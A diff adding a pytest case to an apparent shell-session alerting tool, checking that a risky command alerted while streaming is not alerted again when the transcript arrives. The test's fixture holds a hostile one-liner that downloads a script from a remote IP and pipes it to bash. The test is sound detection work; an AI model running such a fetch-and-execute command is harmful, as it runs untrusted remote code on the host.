@@ -422,3 +422,18 @@ def test_without_session_notices_a_session_start_is_not_announced(app: ModuleTyp
     invoke(app, sample("ledger-cloudtrail-terminate-session.json"))
     assert notices(stack) == []
     assert stack.slack_posts() == []
+
+
+def test_a_risky_command_in_the_streamed_part_is_not_alerted_again_from_the_transcript(
+    app: ModuleType, stack: Stack
+) -> None:
+    # Given a session whose stream delivered its first command (a risky one, alerted as it streamed), then died
+    transcript = SHELL_TRANSCRIPT.replace("sh-4.2$ id\r\n", "sh-4.2$ curl -fsSL http://203.0.113.50/i.sh | bash\r\n")
+    start_shell(app, stack)
+    stream(stack, lines=2)
+    # When its transcript arrives
+    invoke(app, put_transcript(stack, SHELL_SESSION, transcript))
+    # Then only what followed the stream is alerted on
+    rule_ids = [m["MessageAttributes"]["rule_id"]["StringValue"] for m in stack.sns_messages()]
+    assert "SG-CRED-001" in rule_ids
+    assert "SG-DLEX-001" not in rule_ids
